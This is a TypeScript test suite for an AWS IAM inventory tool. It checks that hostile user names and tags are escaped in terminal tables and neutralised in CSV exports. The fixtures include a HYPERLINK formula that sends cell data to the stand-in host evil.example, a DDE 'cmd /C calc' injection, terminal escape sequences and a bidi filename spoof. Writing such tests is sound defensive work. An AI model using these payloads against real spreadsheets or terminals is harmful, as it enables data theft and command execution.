import { auditCsv, AuditEntry } from '../../../src/cleanup/audit';
import { InventoryGraph } from '../../../src/inventory/graph';
import { accountNode, userNode } from '../../../src/inventory/model';
import { executeSearch } from '../../../src/query/execute';
import { render } from '../../../src/query/output';
import { renderTable } from '../../../src/tabular';
import { csvCell, terminalSafe } from '../../../src/untrusted-text';

const NOW = new Date('2026-11-24T10:00:00Z');
/** Sets the terminal's title, rings the bell, clears the screen; then a C1 CSI that turns text red. */
const TITLE_AND_CLEAR = 'ops\u001b]0;owned\u0007\u001b[2J\u009b31m';
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
/** Anything a terminal would act on, or a spreadsheet run, in printed text. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/;

function hostileInventory(): InventoryGraph {
  const graph = new InventoryGraph();
  graph.addNode(accountNode({ id: '123456789012', name: 'prod' }));
  const users: [string, Record<string, string>][] = [
    [TITLE_AND_CLEAR, { owner: 'bell\u0007' }],
    [FORMULA, {}],
    ['@SUM(1+1)', {}],
    ['+cmd', {}],
    ['-2+3', { note: '\tlead' }],
    ['bidi\u202egnp.exe', {}],
  ];
  users.forEach(([name, tags], i) => {
    graph.addNode(userNode({ id: `AIDA${i}`, name, arn: `arn:aws:iam::123456789012:user/u${i}`, path: '/', ctime: '2025-01-01T00:00:00Z', atime: null, tags, password_enabled: false, mfa_active: false }));
    graph.addEdge('123456789012', `AIDA${i}`);
  });
  return graph;
}

const search = (text: string) => executeSearch(text, { graph: hostileInventory(), now: NOW }).output;

describe('hostile inventory values in text output', () => {
  it('shows control characters in a table as escapes, keeping the columns aligned', () => {
    const text = render(search('is(user) | list name, tags'));
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text).toContain('ops\\x1b]0;owned\\x07\\x1b[2J\\x9b31m');
    expect(text).toContain('bidi\\u202egnp.exe');
    expect(text).toContain('{"owner":"bell\\u0007"}');
    const lines = text.split('\n');
    expect(lines).toHaveLength(7);
    const tagsColumn = (lines[0] as string).indexOf('tags');
    for (const line of lines.slice(1)) expect(line.slice(tagsColumn - 2, tagsColumn)).toBe('  ');
  });

  it('escapes count values and the default list', () => {
    for (const text of [render(search('is(user) | count name')), render(search('is(user) | list')), render(search('is(user) | aggregate name: sum(1) as n'))]) {
      expect(text).not.toMatch(RAW_CONTROL);
      expect(text).toContain('ops\\x1b]0;owned');
    }
  });

  it('dumps as text the same JSON value, with DEL, C1 and bidi controls as \\u escapes', () => {
    const text = render(search('is(user) and name ~ "^ops" | dump'));
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text).toContain('\\u009b31m');
    expect(JSON.parse(text)[0].reported.name).toBe(TITLE_AND_CLEAR);
  });

  it('leaves JSON output exact: a script gets the name as IAM has it', () => {
    const rows = JSON.parse(render(search('is(user) | list name'), 'json')) as { name: string }[];
    expect(rows.map((row) => row.name)).toContain(TITLE_AND_CLEAR);
    expect(rows.map((row) => row.name)).toContain(FORMULA);
  });

  it('shows tabs, newlines and carriage returns as \\t, \\n, \\r, so a value cannot forge a line', () => {
    expect(terminalSafe('a\tb\nc\rd\u0000e\u007f')).toBe('a\\tb\\nc\\rd\\x00e\\x7f');
    expect(terminalSafe('Zoë 🚀 ok')).toBe('Zoë 🚀 ok');
  });

  it('escapes cells of every CLI table', () => {
    const text = renderTable([{ user: TITLE_AND_CLEAR, keys: 2 }], [
      { header: 'user', value: (row) => row.user },
      { header: 'keys', value: (row) => row.keys },
    ]);
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text.split('\n')[1]).toBe('ops\\x1b]0;owned\\x07\\x1b[2J\\x9b31m     2');
  });
});

describe('hostile inventory values in CSV', () => {
  it("puts a single quote before a cell a spreadsheet would run as a formula (=, +, -, @, tab, CR)", () => {
    const csv = render(search('is(user) | sort name | list name --csv'));
    expect(csv.split('\n')).toEqual([
      'name',
      "'+cmd",
      "'-2+3",
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`,
      "'@SUM(1+1)",
      'bidi\u202egnp.exe',
      `ops${TITLE_AND_CLEAR.slice(3)}`,
    ]);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', `"'\rx"`],
    ['a=b', 'a=b'],
    ['', ''],
    [' padded', '" padded"'],
  ])('writes the string %j as %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('keeps numbers and booleans as they are: -5 is a number, not a formula', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(null)).toBe('');
  });

  it('neutralises the audit CSV too', () => {
    const entry: AuditEntry = {
      run_id: 'run-1', at: '2026-11-24T10:00:00.000Z', account: '123456789012', user_name: '=cmd|" /C calc"!A0', access_key_id: 'AKIA1',
      action: 'delete', result: 'deleted', dry_run: false, job_id: null, reason: '@reason',
    };
    const [, line] = auditCsv([entry]).split('\n');
    expect(line).toBe(`run-1,2026-11-24T10:00:00.000Z,123456789012,"'=cmd|"" /C calc""!A0",AKIA1,delete,deleted,false,,'@reason`);
  });
});
